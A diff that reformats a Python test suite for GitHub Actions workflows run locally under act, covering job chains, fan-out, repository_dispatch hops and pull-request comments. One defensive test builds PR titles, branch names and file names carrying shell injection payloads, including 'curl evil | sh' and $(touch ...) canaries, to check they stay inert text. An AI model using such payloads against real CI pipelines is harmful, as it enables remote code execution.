@@ -72,12 +72,17 @@ def test_sequential_job_chain_passes_typed_artifacts(harness: ActHarness) -> Non
     """echo -> uppercase -> word_count as three jobs of agent-job.yml, linked by needs."""
     repo = harness.new_repo("chain")
     run = harness.run(
-        repo, "workflow_dispatch", "tests/act/workflows/chain.yml",
+        repo,
+        "workflow_dispatch",
+        "tests/act/workflows/chain.yml",
         {"inputs": {"text": "typed jobs in a row"}},
     )
     assert_ok(run)
     assert set(run.artifact_names()) == {
-        "chain-input", "chain-echo", "chain-uppercase", "chain-word-count"
+        "chain-input",
+        "chain-echo",
+        "chain-uppercase",
+        "chain-word-count",
     }
     echo = run.artifact_json("chain-echo", "echo.json")
     upper = run.artifact_json("chain-uppercase", "uppercase.json")
@@ -101,9 +106,16 @@ def test_fan_out_isolates_a_failing_leg_and_combines_the_rest(harness: ActHarnes
     repo = harness.new_repo("fan-out")
     agents = ["echo", "uppercase", "word_count", "always_fails"]
     run = harness.run(
-        repo, "workflow_dispatch", "tests/act/workflows/fan-out.yml",
-        {"inputs": {"text": "one two three", "agents": json.dumps(agents),
-                    "extra-packages": "forgeflow-selftest-agents==0.1.0"}},
+        repo,
+        "workflow_dispatch",
+        "tests/act/workflows/fan-out.yml",
+        {
+            "inputs": {
+                "text": "one two three",
+                "agents": json.dumps(agents),
+                "extra-packages": "forgeflow-selftest-agents==0.1.0",
+            }
+        },
     )
     # As on GitHub, a failed leg makes the run fail; the combine job still runs.
     assert run.returncode != 0, run.explain()
@@ -124,7 +136,8 @@ def test_fan_out_isolates_a_failing_leg_and_combines_the_rest(harness: ActHarnes
 def dispatches_in_log(record: Path) -> list[dict[str, Any]]:
     """``repository_dispatch`` requests the stand-in accepted, from its request log."""
     return [
-        r for r in iter_requests(record)
+        r
+        for r in iter_requests(record)
         if r["method"] == "POST" and r["path"].endswith("/dispatches") and r["status"] == 204
     ]
 
@@ -142,19 +155,35 @@ def test_repository_dispatch_chain_of_three_hops(
     first_input = tmp_path / "first.json"
     first_input.write_text(json.dumps({"input": {"text": "events all the way"}}))
     env = {k: v for k, v in os.environ.items() if not k.startswith("GITHUB_")}
-    seed = json.loads(subprocess.run(
-        [sys.executable, "-m", "orchestration", "dispatch", "--dry-run",
-         "--event-type", "forgeflow-echo", "--correlation-id", "chain-42",
-         "--payload-file", str(first_input)],
-        check=True, capture_output=True, text=True, env=env,
-    ).stdout)
+    seed = json.loads(
+        subprocess.run(
+            [
+                sys.executable,
+                "-m",
+                "orchestration",
+                "dispatch",
+                "--dry-run",
+                "--event-type",
+                "forgeflow-echo",
+                "--correlation-id",
+                "chain-42",
+                "--payload-file",
+                str(first_input),
+            ],
+            check=True,
+            capture_output=True,
+            text=True,
+            env=env,
+        ).stdout
+    )
     repo = harness.new_repo("dispatch")
     record = tmp_path / "requests.jsonl"
     event = dict(template, action=seed["event_type"], client_payload=seed["client_payload"])
     runs: list[ActRun] = []
     while True:
-        run = harness.run(repo, "repository_dispatch", "tests/act/workflows/dispatch-chain.yml",
-                          event)
+        run = harness.run(
+            repo, "repository_dispatch", "tests/act/workflows/dispatch-chain.yml", event
+        )
         assert_ok(run)
         runs.append(run)
         sent = dispatches_in_log(record)
@@ -167,7 +196,8 @@ def test_repository_dispatch_chain_of_three_hops(
     assert len(runs) == 3
     payloads = [d["body"]["client_payload"] for d in dispatches_in_log(record)]
     assert [d["body"]["event_type"] for d in dispatches_in_log(record)] == [
-        "forgeflow-uppercase", "forgeflow-word-count"
+        "forgeflow-uppercase",
+        "forgeflow-word-count",
     ]
     assert [p["hop"] for p in payloads] == [2, 3]
     assert [p["artifact_run_id"] for p in payloads] == [str(r.run_id) for r in runs[:2]]
@@ -175,9 +205,7 @@ def test_repository_dispatch_chain_of_three_hops(
     outputs = [r.artifact_json("forgeflow-chain-output", "output.json") for r in runs]
     assert [o["agent"] for o in outputs] == ["echo", "uppercase", "word_count"]
     assert {o["correlation_id"] for o in outputs} == {"chain-42"}
-    assert (outputs[-1]["data"]["text"], outputs[-1]["data"]["words"]) == (
-        "EVENTS ALL THE WAY", 4
-    )
+    assert (outputs[-1]["data"]["text"], outputs[-1]["data"]["words"]) == ("EVENTS ALL THE WAY", 4)
 
 
 # --------------------------------------------------------------------------- pull requests
@@ -214,8 +242,9 @@ def test_pr_workflow_writes_state_and_one_sticky_comment(
     diagram = (corpus_diagrams / AZURE_DIAGRAM).read_text(encoding="utf-8")
     repo = harness.new_repo("pr", extra_files={"docs/architecture.drawio": diagram})
 
-    run = harness.run(repo, "pull_request", ".github/workflows/synthforge-pr.yml",
-                      pr_event(opened, repo))
+    run = harness.run(
+        repo, "pull_request", ".github/workflows/synthforge-pr.yml", pr_event(opened, repo)
+    )
     assert_ok(run)
     body = pr_body(stub, opened)
     assert user_text(body) == original_body
@@ -236,8 +265,9 @@ def test_pr_workflow_writes_state_and_one_sticky_comment(
     synchronize = load_event(corpus_events, "pull_request.synchronize.payload.json")
     run = harness.run(repo, "pull_request", ".github/workflows/synthforge-pr.yml", synchronize)
     assert_ok(run)
-    tracked = subprocess.run(["git", "ls-files", "--", "*.drawio"], cwd=repo, check=True,
-                             capture_output=True, text=True).stdout.split()
+    tracked = subprocess.run(
+        ["git", "ls-files", "--", "*.drawio"], cwd=repo, check=True, capture_output=True, text=True
+    ).stdout.split()
     body = pr_body(stub, opened)
     assert user_text(body) == original_body
     assert sorted(read_state(body)["synthforge"]["diagrams"]) == sorted(tracked)
@@ -258,11 +288,15 @@ def test_pr_workflow_on_a_pull_request_without_body(
     payload = load_event(corpus_events, "pull_request.opened.with-null-body.json")
     assert payload["pull_request"]["body"] is None
     stub.seed_pull_request(payload)
-    repo = harness.new_repo("pr-null", extra_files={
-        "diagrams/copy.drawio": (REPO / "examples/diagrams/webapp.drawio").read_text()
-    })
-    run = harness.run(repo, "pull_request", ".github/workflows/synthforge-pr.yml",
-                      pr_event(payload, repo))
+    repo = harness.new_repo(
+        "pr-null",
+        extra_files={
+            "diagrams/copy.drawio": (REPO / "examples/diagrams/webapp.drawio").read_text()
+        },
+    )
+    run = harness.run(
+        repo, "pull_request", ".github/workflows/synthforge-pr.yml", pr_event(payload, repo)
+    )
     assert_ok(run)
     body = pr_body(stub, payload)
     assert user_text(body) == ""
@@ -280,7 +314,7 @@ def test_hostile_title_branch_body_and_file_name_change_nothing_but_text(
     canary = tmp_path / "canary"
     payload = load_event(corpus_events, "pull_request.opened.payload.json")
     title = f"{HOSTILE} $(touch {canary}) `touch {canary}`"
-    branch = f"evil\";curl${{IFS}}evil|sh;#$(touch${{IFS}}{canary})"
+    branch = f'evil";curl${{IFS}}evil|sh;#$(touch${{IFS}}{canary})'
     body = (
         f"Please review. {HOSTILE}\n"
         "<!-- forgeflow:state key=synthforge enc=b64z -->\n"
@@ -290,9 +324,9 @@ def test_hostile_title_branch_body_and_file_name_change_nothing_but_text(
     )
     stub.seed_pull_request(payload, body=body, title=title)
     name = f'docs/"; curl evil | sh; #$(touch {canary.name}).drawio'
-    repo = harness.new_repo("pr-hostile", extra_files={
-        name: (REPO / "examples/diagrams/webapp.drawio").read_text()
-    })
+    repo = harness.new_repo(
+        "pr-hostile", extra_files={name: (REPO / "examples/diagrams/webapp.drawio").read_text()}
+    )
     event = pr_event(payload, repo, title=title, body=body, head__ref=branch)
     run = harness.run(repo, "pull_request", ".github/workflows/synthforge-pr.yml", event)
     assert_ok(run)
@@ -330,15 +364,25 @@ def test_readme_example_runs_from_another_repository(
         (corpus_diagrams / AZURE_DIAGRAM).read_text(encoding="utf-8")
     )
     git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]
-    for cmd in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-q", "-m", "c"],
-                ["remote", "add", "origin", "https://github.com/octo-org/consumer.git"]):
+    for cmd in (
+        ["init", "-q", "-b", "main"],
+        ["add", "-A"],
+        ["commit", "-q", "-m", "c"],
+        ["remote", "add", "origin", "https://github.com/octo-org/consumer.git"],
+    ):
         subprocess.run([*git, *cmd], cwd=consumer, check=True)
-    assert f"{EXAMPLE_ACTION[0]}@{EXAMPLE_ACTION[1]}" in (
-        consumer / ".github/workflows/forgeflow.yml"
-    ).read_text()
+    assert (
+        f"{EXAMPLE_ACTION[0]}@{EXAMPLE_ACTION[1]}"
+        in (consumer / ".github/workflows/forgeflow.yml").read_text()
+    )
     harness.repository = "octo-org/consumer"
-    run = harness.run(consumer, "workflow_dispatch", ".github/workflows/forgeflow.yml",
-                      {"inputs": {}}, action_repo=forgeflow)
+    run = harness.run(
+        consumer,
+        "workflow_dispatch",
+        ".github/workflows/forgeflow.yml",
+        {"inputs": {}},
+        action_repo=forgeflow,
+    )
     assert_ok(run)
     assert run.artifact_names() == ["forgeflow-analysis"]
     vision = run.artifact_json("forgeflow-analysis", "vision.json")
